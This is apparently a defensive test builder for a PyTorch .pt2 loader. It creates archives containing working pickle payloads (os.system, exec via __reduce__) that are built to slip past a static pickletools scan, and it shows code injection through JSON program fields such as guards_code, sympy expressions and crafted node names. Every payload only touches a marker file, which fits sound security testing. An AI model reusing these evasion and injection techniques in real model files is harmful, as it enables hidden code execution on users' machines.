"""Builders of ``.pt2`` archives whose pickles, or whose program strings, would run code when
``torch.export.load`` reads them, and of the legitimate archives they are made from.

      python tests/hostile/build_pickles.py OUT_DIR MARKER_DIR

Every payload creates a file named ``pickles_<case>`` under MARKER_DIR if it runs. Each pickle case
is built so that the former static scan (a pickletools pass over members named ``.pkl`` or starting
with a protocol-2 header) saw nothing wrong:

  a  a protocol-0 pickle (no header) as the first pickle of a pickled weight (legacy torch.save stream)
  b  a pushed-and-popped decoy name in front of the real STACK_GLOBAL, in a pickled constant's data.pkl
  c  a valid prefix up to REDUCE, then junk, as a pickled weight
  d  the payload in the fourth pickle of the legacy weights file data/weights/model.pt
  e  the decoy trick of (b) in the sample inputs' data.pkl

Where the file stays loadable (all but c), the payload's result is popped and the original value
follows, so ``--trust-code`` loads the program and the payload has run.

The pickle-writing helpers at the top are stdlib only (tests/hostile/test_pickles.py uses them too);
torch is imported by the builders alone, in this subprocess.
"""

from __future__ import annotations

import io
import json
import pickletools
import struct
import sys
import zipfile
from pathlib import Path

# -- pickle opcodes ------------------------------------------------------------------------------

MARK, STOP, POP, POP_MARK, TUPLE, TUPLE1, EMPTY_TUPLE = b"(", b".", b"0", b"1", b"t", b"\x85", b")"
REDUCE, BUILD, OBJ, NEWOBJ, STACK_GLOBAL, MEMOIZE, LIST = b"R", b"b", b"o", b"\x81", b"\x93", b"\x94", b"l"


def proto(p: int) -> bytes:
    return b"\x80" + bytes([p]) if p >= 2 else b""


def global_op(module: str, name: str) -> bytes:
    """GLOBAL: valid in every protocol."""
    return b"c" + module.encode() + b"\n" + name.encode() + b"\n"


def inst_op(module: str, name: str) -> bytes:
    """INST (after MARK and the arguments): calls module.name(*args)."""
    return b"i" + module.encode() + b"\n" + name.encode() + b"\n"


def string(s: str, p: int) -> bytes:
    """A str in the opcodes of protocol ``p``."""
    data = s.encode()
    if p == 0:
        return b"V" + s.encode("raw_unicode_escape") + b"\n"
    if p >= 4 and len(data) < 256:
        return b"\x8c" + bytes([len(data)]) + data
    return b"X" + struct.pack("<I", len(data)) + data


def put(i: int, p: int) -> bytes:
    return b"p" + str(i).encode() + b"\n" if p == 0 else b"q" + bytes([i])


def get(i: int, p: int) -> bytes:
    return b"g" + str(i).encode() + b"\n" if p == 0 else b"h" + bytes([i])


def args_tuple(values: list[str], p: int) -> bytes:
    return MARK + b"".join(string(v, p) for v in values) + TUPLE


def call_reduce(module: str, name: str, arg: str, p: int) -> bytes:
    """Push module.name(arg) with GLOBAL + REDUCE."""
    return global_op(module, name) + args_tuple([arg], p) + REDUCE


def call_decoy_stack_global(
    module: str, name: str, arg: str, decoys=(("torch._utils", "_rebuild_tensor_v2"),)
) -> bytes:
    """Push module.name(arg) with STACK_GLOBAL, after pushing and popping allowed-looking names: a
    reader that takes the last two strings before STACK_GLOBAL sees the decoy."""
    out = string(module, 4) + string(name, 4)
    for dm, dn in decoys:
        out += string(dm, 4) + string(dn, 4) + POP + POP
    return out + STACK_GLOBAL + string(arg, 4) + TUPLE1 + REDUCE


def pickle_spans(data: bytes) -> list[tuple[int, int]]:
    """(start, end) of each pickle at the head of a stream of pickles (end is after STOP)."""
    spans, pos = [], 0
    stream = io.BytesIO(data)
    while pos < len(data):
        stream.seek(pos)
        try:
            end = None
            for op, _, at in pickletools.genops(stream):
                if op.name == "STOP":
                    end = at + 1
                    break
        except Exception:
            break
        if end is None:
            break
        spans.append((pos, end))
        pos = end
    return spans


def splice_in_front(pickle_bytes: bytes, payload_ops: bytes) -> bytes:
    """The same pickle with ``payload_ops`` (which push one value) run first and their value popped."""
    head = 2 if pickle_bytes[:1] == b"\x80" else 0
    return pickle_bytes[:head] + payload_ops + POP + pickle_bytes[head:]


def replace_zip_member(blob: bytes, suffix: str, transform) -> bytes:
    """A copy of the zip ``blob`` whose member ending in ``suffix`` went through ``transform``."""
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(blob)) as src, zipfile.ZipFile(out, "w") as dst:
        for info in src.infolist():
            data = src.read(info)
            dst.writestr(info, transform(data) if info.filename.endswith(suffix) else data)
    return out.getvalue()


def touch_command(marks: Path, case: str) -> str:
    return f"touch {marks / ('pickles_' + case)}"


def touch_code(marks: Path, case: str) -> str:
    return f"open({str(marks / ('pickles_' + case))!r}, 'w').close()"


# -- archives (torch, in this subprocess) ------------------------------------------------------------


def rewrite_archive(src: Path, dst: Path, members: dict, add: dict | None = None) -> Path:
    """Copy the .pt2 ``src`` to ``dst``; members whose name (after the archive's root folder) is a key
    of ``members`` go through that function; ``add`` adds members under the same root."""
    with zipfile.ZipFile(src) as zin, zipfile.ZipFile(dst, "w") as zout:
        root = zin.namelist()[0].split("/", 1)[0]
        for info in zin.infolist():
            name = info.filename.split("/", 1)[1]
            data = zin.read(info)
            if name in members:
                data = members[name](data)
            zout.writestr(info, data)
        for name, data in (add or {}).items():
            zout.writestr(f"{root}/{name}", data)
    return dst


def edit_json(fn):
    def apply(data: bytes) -> bytes:
        doc = json.loads(data)
        fn(doc)
        return json.dumps(doc).encode()

    return apply


def set_use_pickle(fqn: str):
    def fn(doc):
        doc["config"][fqn]["use_pickle"] = True

    return edit_json(fn)


def build(out: Path, marks: Path) -> None:
    import torch

    torch.manual_seed(0)

    class Program(torch.nn.Module):
        """A linear layer, a buffer and a tensor constant: weights, buffers and constants all present."""

        def __init__(self):
            super().__init__()
            self.lin = torch.nn.Linear(4, 4)
            self.register_buffer("buf", torch.ones(4))
            self.c = torch.arange(4.0)

        def forward(self, x):
            return self.lin(x) + self.buf + self.c

    class Branch(torch.nn.Module):
        def forward(self, x):
            return torch.cond(x.sum() > 0, lambda x: x + 1, lambda x: x - 1, (x,))

    model = Program().eval()
    good = out / "good.pt2"
    program = torch.export.export(model, (torch.randn(2, 4),))
    torch.export.save(program, good)
    torch.export.save(torch.export.export(Branch(), (torch.randn(2, 4),)), out / "good_cond.pt2")

    def legacy(obj) -> bytes:
        buf = io.BytesIO()
        torch.save(obj, buf, _use_new_zipfile_serialization=False)
        return buf.getvalue()

    def zipped(obj) -> bytes:
        buf = io.BytesIO()
        torch.save(obj, buf)
        return buf.getvalue()

    # a: the first pickle of a legacy stream (the magic number) rewritten as a protocol-0 pickle that
    # runs the payload, pops it, then pushes the magic number again
    stream = legacy(program.state_dict["lin.bias"])
    first_end = pickle_spans(stream)[0][1]
    magic = pickletools.genops(io.BytesIO(stream[:first_end]))
    magic_number = next(arg for op, arg, _ in magic if isinstance(arg, int) and arg > 2**32)
    proto0 = call_reduce("os", "system", touch_command(marks, "a"), 0) + POP + b"L%dL\n" % magic_number + STOP
    rewrite_archive(
        good,
        out / "a_protocol0_pickled_weight.pt2",
        {
            "data/weights/model_weights_config.json": set_use_pickle("lin.bias"),
            "data/weights/weight_1": lambda _: proto0 + stream[first_end:],
        },
    )

    # b: a pickled constant (torch.save zip) whose data.pkl hides os.system behind a decoy name
    payload_b = call_decoy_stack_global("os", "system", touch_command(marks, "b"))
    rewrite_archive(
        good,
        out / "b_decoy_global_pickled_constant.pt2",
        {
            "data/constants/model_constants_config.json": set_use_pickle("c"),
            "data/constants/tensor_0": lambda _: replace_zip_member(
                zipped(model.c), "data.pkl", lambda pkl: splice_in_front(pkl, payload_b)
            ),
        },
    )

    # c: protocol-2 header, a call up to REDUCE, then bytes no unpickler can read
    junk = proto(2) + call_reduce("os", "system", touch_command(marks, "c"), 2) + b"\xff\xfe not a pickle"
    rewrite_archive(
        good,
        out / "c_junk_after_reduce.pt2",
        {
            "data/weights/model_weights_config.json": set_use_pickle("lin.weight"),
            "data/weights/weight_0": lambda _: junk,
        },
    )

    # d: the legacy weights file torch still reads first when present; payload in its fourth pickle
    weights = legacy(dict(program.state_dict))
    spans = pickle_spans(weights)
    start, end = spans[3]
    fourth = splice_in_front(weights[start:end], call_reduce("builtins", "exec", touch_code(marks, "d"), 2))
    rewrite_archive(
        good,
        out / "d_legacy_weights_file.pt2",
        {},
        add={"data/weights/model.pt": weights[:start] + fourth + weights[end:]},
    )

    # e: the sample inputs, with the decoy of (b); t: the same with its own marker, for --trust-code
    for case, name in (("e", "e_decoy_global_sample_inputs.pt2"), ("trusted", "t_trusted_sample_inputs.pt2")):
        payload = call_decoy_stack_global(
            "builtins", "exec", touch_code(marks, case), decoys=(("collections", "OrderedDict"), ("torch", "Size"))
        )
        rewrite_archive(
            good,
            out / name,
            {
                "data/sample_inputs/model.pt": lambda blob, payload=payload: replace_zip_member(
                    blob, "data.pkl", lambda pkl: splice_in_front(pkl, payload)
                ),
            },
        )

    build_program_strings(out, marks, good, out / "good_cond.pt2", torch)


def build_program_strings(out: Path, marks: Path, good: Path, cond: Path, torch) -> None:
    """Archives whose JSON program (or a non-tensor member) would run code: the cases beyond pickles
    that torch.export.load and ExportedProgram.module() turn into Python."""
    code = lambda case: ",".join(str(b) for b in touch_code(marks, case).encode())  # noqa: E731

    def model_json(fn):
        return {"models/model.json": edit_json(fn)}

    def rename(old: str, new: str):
        def fn(doc):
            text = json.dumps(doc["graph_module"]).replace(json.dumps(old), json.dumps(new))
            doc["graph_module"] = json.loads(text)

        return fn

    def sym_expr(doc):  # sympy.sympify evals the expression string at load
        expr = f"__import__('builtins').exec({touch_code(marks, 'sympy')!r}) or 2"
        doc["graph_module"]["graph"]["tensor_values"]["x"]["sizes"][0] = {
            "as_expr": {"expr_str": expr, "hint": {"as_int": 2}}
        }

    def guards(doc):  # ExportedProgram.module() pastes guards_code into a generated function
        doc["guards_code"] = [f"exec(bytes([{code('guards')}])) is None"]

    def treespec_import(doc):  # pytree's enum hook imports the module it names
        sig = doc["graph_module"]["module_call_graph"][0]["signature"]
        spec = json.loads(sig["in_spec"])
        spec[1]["children_spec"][1]["context"] = json.dumps([{"__enum__": True, "fqn": "this:x", "name": "y"}])
        sig["in_spec"] = json.dumps(spec)

    rewrite_archive(good, out / "p_sympy_expression.pt2", model_json(sym_expr))
    rewrite_archive(
        good, out / "p_placeholder_name.pt2", model_json(rename("x", f"x=exec(bytes([{code('placeholder')}]))"))
    )
    rewrite_archive(
        cond,
        out / "p_getattr_target.pt2",
        model_json(
            rename("true_graph_0", f'false_graph_0"),exec(bytes([{code("getattr")}])),getattr(self,"false_graph_0')
        ),
    )
    state_name = f'lin.w"),exec(bytes([{code("state")}])),getattr(self,"lin'

    def rename_weight(doc):
        doc["config"][state_name] = doc["config"].pop("lin.weight")

    rewrite_archive(
        good,
        out / "p_state_name.pt2",
        {
            **model_json(rename("lin.weight", state_name)),
            "data/weights/model_weights_config.json": edit_json(rename_weight),
        },
    )
    rewrite_archive(good, out / "p_guards_code.pt2", model_json(guards))
    rewrite_archive(good, out / "p_treespec_import.pt2", model_json(treespec_import))

    class Evil:
        def __reduce__(self):
            return (exec, (touch_code(marks, "opaque"),))

    def opaque(doc):
        doc["config"]["c"] = {"path_name": "opaque_obj_0", "is_param": False, "use_pickle": True, "tensor_meta": None}

    def custom(doc):
        doc["config"]["c"] = {"path_name": "custom_obj_0", "is_param": False, "use_pickle": True, "tensor_meta": None}

    import pickle

    rewrite_archive(
        good,
        out / "p_opaque_object.pt2",
        {"data/constants/model_constants_config.json": edit_json(opaque)},
        add={"data/constants/opaque_obj_0": pickle.dumps(Evil(), protocol=2)},
    )
    rewrite_archive(
        good,
        out / "p_torchbind_object.pt2",
        {"data/constants/model_constants_config.json": edit_json(custom)},
        add={"data/constants/custom_obj_0": b"PK not a torchbind archive"},
    )
    rewrite_archive(
        good, out / "p_aoti_package.pt2", {}, add={"data/aotinductor/model/model.wrapper.so": b"\x7fELF not a library"}
    )


if __name__ == "__main__":
    out_dir, marker_dir = Path(sys.argv[1]).resolve(), Path(sys.argv[2]).resolve()
    out_dir.mkdir(parents=True, exist_ok=True)
    build(out_dir, marker_dir)
